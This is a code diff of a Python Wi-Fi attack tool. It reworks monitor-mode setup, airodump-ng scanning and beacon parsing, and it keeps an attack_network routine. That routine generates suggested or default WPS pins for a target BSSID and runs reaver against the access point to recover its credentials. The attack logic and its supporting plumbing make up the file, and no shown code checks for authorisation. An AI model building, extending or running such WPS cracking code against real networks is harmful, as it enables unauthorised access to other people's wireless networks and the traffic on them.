@@ -8,66 +8,154 @@ import subprocess
 import re
 import time
 import os
+import glob
+import shutil
+import tempfile
 import signal
-from oneshot import WPSpin
 import logging
+from functools import lru_cache
+from tracing import traced
+# Parsers, netlink helpers and metrics are imported where they are first used
 
 logger = logging.getLogger(__name__)
 
+# Optional directory of stand-in tools (see simulator/) searched before PATH
+TOOL_DIR = os.environ.get('WIFI_TOOL_DIR')
+if TOOL_DIR:
+    os.environ['PATH'] = TOOL_DIR + os.pathsep + os.environ.get('PATH', '')
+
+SCAN_SECONDS = float(os.environ.get('WIFI_SCAN_SECONDS', 10))
+# How long to wait for airmon-ng's monitor interface to show up in the interface table
+MONITOR_WAIT_SECONDS = 2
+# auto: a monitor vif beside the managed interface where the phy allows both, else airmon-ng
+MONITOR_METHOD = os.environ.get('MONITOR_METHOD', 'auto')
+MONITOR_METHODS = ('auto', 'vif', 'airmon')
+# auto: airodump-ng while monitor mode is on, else an nl80211 scan from a managed interface
+SCAN_BACKEND = os.environ.get('SCAN_BACKEND', 'auto')
+SCAN_BACKENDS = ('auto', 'airodump', 'managed')
+
+_pin_generator = None
+
+def get_pin_generator():
+    """Process-wide WPSpin instance, built on first use"""
+    global _pin_generator
+    if _pin_generator is None:
+        from oneshot import WPSpin
+        _pin_generator = WPSpin()
+    return _pin_generator
+
+@lru_cache(maxsize=4096)
+def suggested_pins(bssid):
+    """Memoised WPS pin suggestions for a BSSID"""
+    return tuple(get_pin_generator().getSuggested(bssid))
+
 class WiFiManager:
     def __init__(self):
         self.monitor_interface = None
         self.original_interface = None
+        self.monitor_method = None
         self.current_process = None
-        self.wps_pin_generator = WPSpin()
+        self.last_stations = []
+    
+    def suggested_pins(self, bssid):
+        """WPS pin suggestions for a BSSID, computed on demand"""
+        return suggested_pins(bssid)
         
+    @traced(category='wifi')
     def get_wireless_interfaces(self):
         """Get list of wireless interfaces"""
+        from iface_watcher import get_watcher
         try:
-            result = subprocess.run(['iw', 'dev'], capture_output=True, text=True)
-            interfaces = []
-            for line in result.stdout.split('\n'):
-                if 'Interface' in line:
-                    interface = line.split()[-1]
-                    interfaces.append(interface)
-            return interfaces
+            return [iface['ifname'] for iface in get_watcher().interfaces()]
         except Exception as e:
             logger.error(f"Failed to get wireless interfaces: {e}")
             return []
     
-    def enable_monitor_mode(self):
+    def pick_monitor_interface(self, interfaces=None):
+        """First interface (from the given table snapshot) whose phy supports monitor mode"""
+        from iface_watcher import get_watcher
+        from wireless_caps import capabilities, phy_index
+        if interfaces is None:
+            interfaces = get_watcher().interfaces()
+        if not interfaces:
+            raise Exception("No wireless interfaces found")
+        phys = capabilities.get()
+        if not phys:
+            # Capabilities unknown: fall back to the first interface
+            return interfaces[0]
+        capable = {phy.index for phy in phys if phy.supports('monitor')}
+        # Prefer a managed interface to put a monitor vif beside
+        candidates = sorted((iface for iface in interfaces if phy_index(iface['phy']) in capable),
+                            key=lambda iface: iface['type'] == 'monitor')
+        if candidates:
+            return candidates[0]
+        raise Exception("No wireless interface supports monitor mode")
+    
+    def resolve_monitor_method(self, phy, method=None):
+        """'vif' or 'airmon' for a phy, resolving 'auto' from its interface combinations"""
+        from wireless_caps import capabilities
+        method = method or MONITOR_METHOD
+        if method not in MONITOR_METHODS:
+            raise Exception(f"Unknown monitor method {method}")
+        if method == 'auto':
+            phy_caps = capabilities.phy(phy) if phy else None
+            method = 'vif' if phy_caps is not None and phy_caps.allows('managed', 'monitor') else 'airmon'
+        return method
+    
+    def enable_monitor_vif(self, interface, phy, interfaces=()):
+        """Add a monitor vif on the interface's phy, leaving it and NetworkManager running"""
+        from monitor_vif import add_monitor_vif, vif_name
+        name = vif_name(interface)
+        existing = next((iface for iface in interfaces if iface['ifname'] == name), None)
+        if existing is not None and existing['type'] == 'monitor' and existing['phy'] == phy:
+            # Left over from an earlier run; reuse it
+            self.monitor_interface = name
+        else:
+            self.monitor_interface = add_monitor_vif(phy, name)['ifname']
+        self.monitor_method = 'vif'
+    
+    @traced(category='wifi')
+    def enable_monitor_mode(self, method=None):
         """Enable monitor mode on wireless interface"""
+        from iface_watcher import get_watcher
+        from metrics import timed_run
         try:
-            interfaces = self.get_wireless_interfaces()
-            if not interfaces:
-                raise Exception("No wireless interfaces found")
-            
-            # Use first available interface
-            interface = interfaces[0]
+            watcher = get_watcher()
+            interfaces = watcher.interfaces()
+            picked = self.pick_monitor_interface(interfaces)
+            interface, phy = picked['ifname'], picked['phy']
             self.original_interface = interface
             
+            if self.resolve_monitor_method(phy, method) == 'vif':
+                try:
+                    self.enable_monitor_vif(interface, phy, interfaces)
+                    return True
+                except Exception as e:
+                    logger.warning(f"Monitor vif on {phy} failed ({e}); falling back to airmon-ng")
+            
             # Kill interfering processes
-            subprocess.run(['airmon-ng', 'check', 'kill'], 
-                         capture_output=True, text=True)
+            timed_run(['airmon-ng', 'check', 'kill'], 
+                      capture_output=True, text=True)
             
             # Enable monitor mode
-            result = subprocess.run(['airmon-ng', 'start', interface], 
-                                  capture_output=True, text=True)
-            
-            # Find monitor interface name
-            monitor_interfaces = self.get_wireless_interfaces()
-            for iface in monitor_interfaces:
-                if 'mon' in iface or iface != interface:
-                    self.monitor_interface = iface
-                    break
+            result = timed_run(['airmon-ng', 'start', interface], 
+                               capture_output=True, text=True)
             
-            if not self.monitor_interface:
+            # The monitor interface airmon-ng created (or converted) on the same phy
+            monitors = watcher.wait_for(
+                lambda ifs: [i['ifname'] for i in ifs if i['type'] == 'monitor' and (phy is None or i['phy'] == phy)],
+                timeout=MONITOR_WAIT_SECONDS
+            )
+            if monitors:
+                self.monitor_interface = monitors[0]
+                self.monitor_method = 'airmon'
+            else:
                 # Try alternative method
-                self.monitor_interface = f"{interface}mon"
-                subprocess.run(['ip', 'link', 'set', interface, 'down'])
-                subprocess.run(['iw', interface, 'set', 'monitor', 'none'])
-                subprocess.run(['ip', 'link', 'set', interface, 'up'])
+                timed_run(['ip', 'link', 'set', interface, 'down'])
+                timed_run(['iw', interface, 'set', 'monitor', 'none'])
+                timed_run(['ip', 'link', 'set', interface, 'up'])
                 self.monitor_interface = interface
+                self.monitor_method = 'iw'
             
             return True
             
@@ -75,122 +163,159 @@ class WiFiManager:
             logger.error(f"Failed to enable monitor mode: {e}")
             return False
     
+    @traced(category='wifi')
     def disable_monitor_mode(self):
         """Disable monitor mode and restore managed mode"""
+        from monitor_vif import delete_monitor_vif
+        from metrics import timed_run
         try:
             if not self.monitor_interface:
                 return True
             
-            # Stop monitor mode
-            if 'mon' in self.monitor_interface:
-                subprocess.run(['airmon-ng', 'stop', self.monitor_interface], 
-                             capture_output=True, text=True)
+            if self.monitor_method == 'vif':
+                # The managed interface and NetworkManager were never touched
+                delete_monitor_vif(self.monitor_interface)
+                self.monitor_interface = None
+                self.original_interface = None
+                self.monitor_method = None
+                return True
+            
+            # Stop monitor mode: airmon-ng owns interfaces it created, iw restores one we converted
+            if self.monitor_method == 'airmon' or (self.monitor_method is None and
+                                                   self.monitor_interface != self.original_interface):
+                timed_run(['airmon-ng', 'stop', self.monitor_interface], 
+                          capture_output=True, text=True)
             else:
-                subprocess.run(['ip', 'link', 'set', self.monitor_interface, 'down'])
-                subprocess.run(['iw', self.monitor_interface, 'set', 'type', 'managed'])
-                subprocess.run(['ip', 'link', 'set', self.monitor_interface, 'up'])
+                timed_run(['ip', 'link', 'set', self.monitor_interface, 'down'])
+                timed_run(['iw', self.monitor_interface, 'set', 'type', 'managed'])
+                timed_run(['ip', 'link', 'set', self.monitor_interface, 'up'])
             
             # Restart network manager
-            subprocess.run(['systemctl', 'restart', 'NetworkManager'], 
-                         capture_output=True, text=True)
+            timed_run(['systemctl', 'restart', 'NetworkManager'], 
+                      capture_output=True, text=True)
             
             self.monitor_interface = None
             self.original_interface = None
+            self.monitor_method = None
             return True
             
         except Exception as e:
             logger.error(f"Failed to disable monitor mode: {e}")
             return False
     
-    def scan_networks(self):
+    def resolve_scan_backend(self, backend=None):
+        """'airodump' or 'managed', resolving 'auto' from whether monitor mode is on"""
+        backend = backend or SCAN_BACKEND
+        if backend not in SCAN_BACKENDS:
+            raise Exception(f"Unknown scan backend {backend}")
+        if backend == 'auto':
+            backend = 'airodump' if self.monitor_interface else 'managed'
+        return backend
+    
+    def pick_scan_interface(self):
+        """A managed interface to scan from, preferring the one monitor mode was started on"""
+        from iface_watcher import get_watcher
+        managed = [iface['ifname'] for iface in get_watcher().interfaces() if iface['type'] == 'managed']
+        if not managed:
+            raise Exception("No managed wireless interface to scan from")
+        return self.original_interface if self.original_interface in managed else managed[0]
+    
+    @traced(category='wifi')
+    def scan_managed(self):
+        """Survey from a managed interface; no monitor mode and no stations"""
+        import managed_scan
+        networks = managed_scan.scan(self.pick_scan_interface())
+        for network in networks:
+            if not network.essid:
+                network.essid = 'Hidden'
+        self.last_stations = []
+        return networks
+    
+    @traced(category='wifi')
+    def scan_networks(self, duration=None, backend=None):
         """Scan for WiFi networks"""
-        try:
-            if not self.monitor_interface:
-                raise Exception("Monitor mode not enabled")
-            
-            # Use airodump-ng to scan
-            with subprocess.Popen(['airodump-ng', '--write-interval', '1', 
-                                 '--output-format', 'csv', self.monitor_interface],
-                                stdout=subprocess.PIPE, stderr=subprocess.PIPE,
-                                text=True) as proc:
-                time.sleep(10)  # Scan for 10 seconds
-                proc.terminate()
-                proc.wait()
-            
-            # Parse results from CSV files
-            networks = []
-            csv_files = [f for f in os.listdir('.') if f.endswith('.csv')]
-            
-            if csv_files:
-                latest_csv = max(csv_files, key=os.path.getctime)
-                networks = self._parse_airodump_csv(latest_csv)
+        from metrics import SCAN_DURATION, APS_PER_SCAN, timed_popen
+        with SCAN_DURATION.time():
+            try:
+                if self.resolve_scan_backend(backend) == 'managed':
+                    networks = self.scan_managed()
+                    APS_PER_SCAN.observe(len(networks))
+                    return networks
                 
-                # Clean up CSV files
-                for f in csv_files:
-                    try:
-                        os.remove(f)
-                    except:
-                        pass
+                if not self.monitor_interface:
+                    raise Exception("Monitor mode not enabled")
             
-            return networks
+                # airodump-ng writes <prefix>-01.csv/.cap into a directory of its own,
+                # so nothing else in the working directory is read or removed
+                workdir = tempfile.mkdtemp(prefix='airodump-')
+                prefix = os.path.join(workdir, 'scan')
+                try:
+                    # The pcap output keeps one beacon per AP, which carries the WPS IEs
+                    with timed_popen(['airodump-ng', '-w', prefix, '--write-interval', '1',
+                                      '--output-format', 'csv,pcap', self.monitor_interface],
+                                     stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                                     text=True) as proc:
+                        time.sleep(duration or SCAN_SECONDS)
+                        proc.terminate()
+                        proc.wait()
+                    
+                    # Parse results from this scan's CSV file
+                    networks = []
+                    csv_files = sorted(glob.glob(prefix + '-*.csv'))
+                    cap_files = sorted(glob.glob(prefix + '-*.cap'))
+                    
+                    if csv_files:
+                        networks = self._parse_airodump_csv(csv_files[-1])
+                        if cap_files:
+                            self._merge_beacon_details(networks, cap_files[-1])
+                finally:
+                    shutil.rmtree(workdir, ignore_errors=True)
             
-        except Exception as e:
-            logger.error(f"Failed to scan networks: {e}")
-            return []
+                APS_PER_SCAN.observe(len(networks))
+                return networks
+            
+            except Exception as e:
+                logger.error(f"Failed to scan networks: {e}")
+                return []
     
+    @traced(category='wifi')
     def _parse_airodump_csv(self, csv_file):
         """Parse airodump-ng CSV output"""
-        networks = []
-        try:
-            with open(csv_file, 'r') as f:
-                lines = f.readlines()
-            
-            # Find the start of AP data
-            ap_start = 0
-            for i, line in enumerate(lines):
-                if 'BSSID' in line and 'First time seen' in line:
-                    ap_start = i + 1
-                    break
-            
-            # Parse AP data
-            for line in lines[ap_start:]:
-                if not line.strip() or 'Station MAC' in line:
-                    break
+        from airodump_parser import parse_airodump_csv
+        from metrics import PARSE_DURATION
+        with PARSE_DURATION.time():
+            networks = []
+            try:
+                networks, self.last_stations = parse_airodump_csv(csv_file)
                 
-                fields = [field.strip() for field in line.split(',')]
-                if len(fields) >= 14:
-                    bssid = fields[0]
-                    power = fields[8]
-                    essid = fields[13]
-                    channel = fields[3]
-                    encryption = fields[5]
-                    
-                    if bssid and bssid != '':
-                        # Generate WPS pins for this BSSID
-                        wps_pins = self.wps_pin_generator.getSuggested(bssid)
-                        
-                        networks.append({
-                            'bssid': bssid,
-                            'essid': essid if essid else 'Hidden',
-                            'channel': channel,
-                            'power': power,
-                            'encryption': encryption,
-                            'wps_pins': wps_pins
-                        })
+                for network in networks:
+                    if not network.essid:
+                        network.essid = 'Hidden'
             
+            except Exception as e:
+                logger.error(f"Failed to parse CSV: {e}")
+            
+            return networks
+    
+    @traced(category='wifi')
+    def _merge_beacon_details(self, networks, cap_file):
+        """Add WPS state and device details from airodump-ng's beacon capture"""
+        from pcap_reader import merge_beacon_details
+        try:
+            merge_beacon_details(networks, cap_file)
         except Exception as e:
-            logger.error(f"Failed to parse CSV: {e}")
-        
-        return networks
+            logger.error(f"Failed to parse beacon capture: {e}")
     
+    @traced(category='wifi')
     def attack_network(self, bssid, essid=None):
         """Attack network using WPS"""
+        from metrics import timed_popen
         try:
             if not self.monitor_interface:
                 raise Exception("Monitor mode not enabled")
             
             # Generate WPS pins for target
-            pins = self.wps_pin_generator.getSuggestedList(bssid)
+            pins = [pin['pin'] for pin in suggested_pins(bssid)]
             if not pins:
                 pins = ['12345670', '00000000', '11111111']  # Default pins
             
@@ -206,10 +331,10 @@ class WiFiManager:
                        '-p', pin, '-vv', '-L', '-N', '-d', '15', '-T', '1', '-t', '15']
                 
                 try:
-                    self.current_process = subprocess.Popen(cmd, 
-                                                          stdout=subprocess.PIPE, 
-                                                          stderr=subprocess.PIPE, 
-                                                          text=True)
+                    self.current_process = timed_popen(cmd, 
+                                                       stdout=subprocess.PIPE, 
+                                                       stderr=subprocess.PIPE, 
+                                                       text=True)
                     
                     # Monitor output for success/failure
                     timeout = 300  # 5 minutes timeout
@@ -252,8 +377,10 @@ class WiFiManager:
                 'error': str(e)
             }
     
+    @traced(category='wifi')
     def stop_current_operation(self):
         """Stop current running operation"""
+        from metrics import timed_run
         try:
             if self.current_process:
                 self.current_process.terminate()
@@ -261,8 +388,8 @@ class WiFiManager:
                 self.current_process = None
             
             # Kill any remaining processes
-            subprocess.run(['pkill', '-f', 'airodump-ng'], capture_output=True)
-            subprocess.run(['pkill', '-f', 'reaver'], capture_output=True)
+            timed_run(['pkill', '-f', 'airodump-ng'], capture_output=True)
+            timed_run(['pkill', '-f', 'reaver'], capture_output=True)
             
         except Exception as e:
             logger.error(f"Failed to stop operation: {e}")